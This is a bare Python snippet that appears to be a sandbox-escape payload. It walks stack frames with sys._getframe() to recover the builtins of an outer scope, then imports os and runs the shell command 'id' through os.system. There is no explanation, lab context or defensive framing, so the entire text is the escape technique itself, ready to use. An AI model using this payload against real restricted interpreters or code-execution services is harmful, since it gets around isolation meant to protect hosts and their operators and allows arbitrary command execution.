import sys
f = sys._getframe()
while f:
    g = f.f_globals.get('__builtins__'); f = f.f_back
g['__import__']('os').system('id')
